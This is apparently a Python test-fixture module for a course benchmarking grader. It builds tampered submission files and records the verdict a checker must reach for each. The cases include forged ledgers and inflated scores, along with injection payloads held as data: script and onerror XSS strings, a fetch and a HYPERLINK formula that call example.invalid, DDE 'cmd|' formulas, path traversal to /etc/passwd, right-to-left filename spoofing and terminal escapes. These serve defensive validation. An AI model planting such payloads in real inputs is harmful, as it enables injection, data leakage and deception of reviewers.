"""Files whose contents are wrong, though their digests are right."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from analysis.course.demo import ledgers
from analysis.course.demo.bundles import batch_of
from analysis.course.demo.faults.given import (
    LOOK,
    REJECTED,
    SOUND,
    Document,
    Fault,
    Given,
    edited,
    in_haste,
)
from analysis.ledger.entries import Lock, Rationale, Score

if TYPE_CHECKING:
    from collections.abc import Callable

    from analysis.ledger.entries import Body

_LAST_TERM = "last-term"
_SAMPLES, _CPU, _WARMUP, _GATES = 6, 4, 5, 8  # columns of a block


def _put(value: Any, *path: str | int) -> Callable[[Given, Document], None]:
    """Return the change that puts a value in a place."""

    def change(given: Given, document: Document) -> None:
        del given
        *way, last = path
        place: Any = document
        for step in way:
            place = place[step]
        place[last] = value

    return change


def _drop(*path: str) -> Callable[[Given, Document], None]:
    def change(given: Given, document: Document) -> None:
        del given
        *way, last = path
        place: Any = document
        for step in way:
            place = place[step]
        del place[last]

    return change


def _cases(document: Document) -> list[Document]:
    """Return the cases that were measured."""
    return [case for case in document["bundle"]["cases"] if case["blocks"]]


def _decode(document: Document) -> Document:
    """Return the case of a decode that takes several calls a sample."""
    return next(c for c in _cases(document) if c["kind"] == "decode" and c["loops"] > 2)


def samples_edited(given: Given, document: Document) -> None:
    """Make the samples of a case shorter, and nothing else."""
    del given
    for row in _decode(document)["blocks"]:
        row[_SAMPLES] = [max(1, round(us * 0.4)) for us in row[_SAMPLES]]


def _impossible(given: Given, document: Document) -> None:
    """A decode ten times as fast as a copy."""
    del given
    copies = {
        (c["payload"], c["size"], c["batch"]): c for c in _cases(document) if c["kind"] == "memcpy"
    }
    case = _decode(document)
    copy = copies[case["payload"], case["size"], case["batch"]]
    us = min(copy["blocks"][0][_SAMPLES]) / copy["loops"] / 10
    case["loops"] = max(1, round(min(case["blocks"][0][_SAMPLES]) / us))


def _last_term(given: Given, document: Document) -> None:
    """A whole bundle of another term, its data too."""
    del given
    bundle = document["bundle"]
    bundle["run"]["nonce"] = _LAST_TERM
    bundle["data"] = [
        batch_of(_LAST_TERM, record["payload"], record["size"], record["batch"])
        for record in bundle["data"]
    ]


def _no_gates(given: Given, document: Document) -> None:
    """All blocks pass all gates, whatever their samples."""
    del given
    for case in _cases(document):
        for row in case["blocks"]:
            row[_SAMPLES][-1] *= 3
            row[_GATES] = ""


def _more_cpu(given: Given, document: Document) -> None:
    del given
    for row in _decode(document)["blocks"]:
        row[_CPU] = 2 * (sum(row[_WARMUP]) + sum(row[_SAMPLES]))


def _short_samples(given: Given, document: Document) -> None:
    """Samples of a tenth of their length, all of them, with the CPU's account."""
    del given
    for case in _cases(document):
        for row in case["blocks"]:
            for column in (_WARMUP, _SAMPLES):
                row[column] = [max(1, us // 10) for us in row[column]]
            row[_CPU] = row[_CPU] and row[_CPU] // 10


def _short_steps(given: Given, document: Document) -> None:
    del given
    for record in document["bundle"]["pipeline"]["configurations"]:
        if record["requested_step_ns"]:
            for window in record["windows"]:
                window["step"] = [max(1, us // 4) for us in window["step"]]


def _no_stage(given: Given, document: Document) -> None:
    del given
    for record in document["bundle"]["pipeline"]["isolated"]:
        record["decode"] = [1, 0, 0, 0, 0]


def _foreign_code(given: Given, document: Document) -> None:
    _decode(document)["source"] = given.rng.bytes(16).hex()


def _wrong_data(given: Given, document: Document) -> None:
    document["bundle"]["data"][0]["sha256"] = given.rng.bytes(32).hex()


def _wrong_bytes(given: Given, document: Document) -> None:
    del given
    _decode(document)["decoded_bytes"] += 1


def _negative(given: Given, document: Document) -> None:
    del given
    row = _decode(document)["blocks"][0]
    row[_SAMPLES][0] = -row[_SAMPLES][0]


def _text_for_number(given: Given, document: Document) -> None:
    del given
    _decode(document)["blocks"][0][_SAMPLES][0] = "20000"


def _same_order(given: Given, document: Document) -> None:
    del given
    for case in _cases(document)[:2]:
        case["blocks"][0][3] = 0


def _with_bodies(change: Callable[[list[Body]], list[Body]]) -> Callable[[Given, Document], None]:
    """Return the change that writes another ledger, with a chain as it should be."""

    def written(given: Given, document: Document) -> None:
        document["ledger"] = ledgers.lines(change(given.bodies()))

    return written


def _rationale(text: str) -> Callable[[Given, Document], None]:
    return _with_bodies(lambda held: [*held, Rationale(question="formats", text=text)])


def _better_scores(held: list[Body]) -> list[Body]:
    return [
        body.model_copy(update={"right": True, "held": True, "interval_score": 0.0})
        if isinstance(body, Score)
        else body
        for body in held
    ]


def _no_such_choice(held: list[Body]) -> list[Body]:
    return [
        body.model_copy(update={"choice": "pigeon"}) if isinstance(body, Lock) else body
        for body in held
        if not isinstance(body, Score)
    ]


def _ledger_edited(given: Given, document: Document) -> None:
    """A lock is made wider afterwards."""
    del given
    place = next(i for i, line in enumerate(document["ledger"]) if '"kind":"lock"' in line)
    line = document["ledger"][place]
    document["ledger"][place] = line.replace('"confidence":0', '"confidence":0.0', 1)


def _ledger_shortened(given: Given, document: Document) -> None:
    del given
    del document["ledger"][1]


def _ledger_reordered(given: Given, document: Document) -> None:
    del given
    document["ledger"][0:2] = reversed(document["ledger"][0:2])


def _unprintable(text: str) -> Callable[[Given, Document], None]:
    """Return the change that puts what no lab writes into a rationale, with the chain redone."""

    def change(given: Given, document: Document) -> None:
        held = [
            *given.bodies(),
            Rationale.model_construct(kind="rationale", question="formats", text=text),
        ]
        document["ledger"] = ledgers.lines(held)

    return change


_BUNDLE = "bundle"
_FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'

CONTENTS: dict[str, Fault] = {
    "edited in haste": Fault(in_haste(samples_edited), REJECTED, "digest"),
    "pseudonym of another, in haste": Fault(
        in_haste(_put("0123456789ab", "pseudonym")), REJECTED, "digest"
    ),
    "samples edited, digest redone": Fault(edited(samples_edited), REJECTED, "gates"),
    "another schema": Fault(edited(_put("lab/report", "schema")), REJECTED, "schema"),
    "newer submission": Fault(edited(_put(2, "schema_version")), REJECTED, "schema"),
    "newer bundle": Fault(edited(_put(99, _BUNDLE, "schema_version")), REJECTED, "bundle"),
    "version in words": Fault(edited(_put("one", "schema_version")), REJECTED, "schema"),
    "no ledger": Fault(edited(_drop("ledger")), REJECTED, "schema"),
    "no bundle": Fault(edited(_put(None, _BUNDLE)), REJECTED, "schema"),
    "no machine": Fault(edited(_drop(_BUNDLE, "machine")), REJECTED, "bundle"),
    "unknown key": Fault(edited(_put("me", _BUNDLE, "author")), REJECTED, "bundle"),
    "unknown key outside": Fault(edited(_put("A+", "grade")), REJECTED, "schema"),
    "text for a number": Fault(edited(_text_for_number), REJECTED, "bundle"),
    "a number with a point": Fault(
        edited(_put(1.5, _BUNDLE, "run", "elapsed_ns")), REJECTED, "bundle"
    ),
    "negative times": Fault(edited(_negative), REJECTED, "bundle"),
    "two blocks at once": Fault(edited(_same_order), REJECTED, "bundle"),
    "last term's nonce": Fault(edited(_last_term), REJECTED, "nonce"),
    "another preset": Fault(edited(_put("peers", _BUNDLE, "run", "preset")), REJECTED, "preset"),
    "a selection": Fault(
        edited(_put(["tabular"], _BUNDLE, "run", "payloads")), REJECTED, "selection"
    ),
    "rules of the future": Fault(edited(_put(999, _BUNDLE, "rules_edition")), REJECTED, "edition"),
    "other code": Fault(edited(_foreign_code), LOOK, "division"),
    "measured before the term": Fault(
        edited(_put("2020-02-03T04Z", _BUNDLE, "machine", "started")), LOOK, "dates"
    ),
    "no such hour": Fault(
        edited(_put("2026-13-45T99Z", _BUNDLE, "machine", "started")), REJECTED, "dates"
    ),
    "handed in before it was measured": Fault(
        edited(_put("2001-01-01T00:00Z", "written")), LOOK, "dates"
    ),
    "other data": Fault(edited(_wrong_data), REJECTED, "data"),
    "other bytes": Fault(edited(_wrong_bytes), REJECTED, "sizes"),
    "gates opened": Fault(edited(_no_gates), REJECTED, "gates"),
    "impossible speed": Fault(edited(_impossible), REJECTED, "ceilings"),
    "more CPU than time": Fault(edited(_more_cpu), LOOK, "processor"),
    "samples too short": Fault(edited(_short_samples), LOOK, "samples"),
    "steps too short": Fault(edited(_short_steps), LOOK, "steps"),
    "a stage without time": Fault(edited(_no_stage), LOOK, "floors"),
    "a run of a second": Fault(edited(_put(10**9, _BUNDLE, "run", "elapsed_ns")), LOOK, "order"),
    "script for a pseudonym": Fault(
        edited(_put("<script>alert(1)</script>", "pseudonym")), REJECTED, "schema"
    ),
    "script for a processor": Fault(
        edited(_put("<img src=x onerror=alert(1)>", _BUNDLE, "machine", "cpu")), SOUND, None
    ),
    "formula for a processor": Fault(
        edited(_put("=cmd|' /C calc'!A0", _BUNDLE, "machine", "cpu")), SOUND, None
    ),
    "a path for a processor": Fault(
        edited(_put("../../../../etc/passwd", _BUNDLE, "machine", "cpu")), SOUND, None
    ),
    "a path for a case": Fault(
        edited(_put(["../../x"], _BUNDLE, "run", "left_out")), REJECTED, "left-out"
    ),
    "script in a rationale": Fault(
        edited(_rationale("<script>fetch('//example.invalid')</script>")), SOUND, None
    ),
    "formula in a rationale": Fault(edited(_rationale(_FORMULA)), SOUND, None),
    "plus in a rationale": Fault(edited(_rationale("+1+cmd|' /C calc'!A0")), SOUND, None),
    "minus in a rationale": Fault(edited(_rationale("-2+3+cmd|' /C calc'!A0")), SOUND, None),
    "at in a rationale": Fault(edited(_rationale("@SUM(1+1)*cmd|' /C calc'!A0")), SOUND, None),
    "markup in a rationale": Fault(
        edited(_rationale('#set page(background: image("/etc/passwd"))\n$x$ [b]{c}')), SOUND, None
    ),
    "tab in a rationale": Fault(edited(_rationale("\t=1+1")), SOUND, None),
    "right to left in a rationale": Fault(
        edited(_unprintable("exe.\u202egnp.\u2066 grade: A")), REJECTED, "ledger"
    ),
    "bell in a rationale": Fault(edited(_unprintable("\x1b]0;owned\x07")), REJECTED, "ledger"),
    "long rationale": Fault(edited(_unprintable("a" * 100_000)), REJECTED, "ledger"),
    "ledger edited": Fault(edited(_ledger_edited), REJECTED, "ledger"),
    "ledger shortened": Fault(edited(_ledger_shortened), REJECTED, "ledger"),
    "ledger reordered": Fault(edited(_ledger_reordered), REJECTED, "ledger"),
    "ledger of another kind": Fault(edited(_put(["{}"], "ledger")), REJECTED, "ledger"),
    "no such answer": Fault(edited(_with_bodies(_no_such_choice)), REJECTED, "ledger"),
    "better scores": Fault(edited(_with_bodies(_better_scores)), REJECTED, "scores"),
}
"""A function each, and what checking must say of it."""
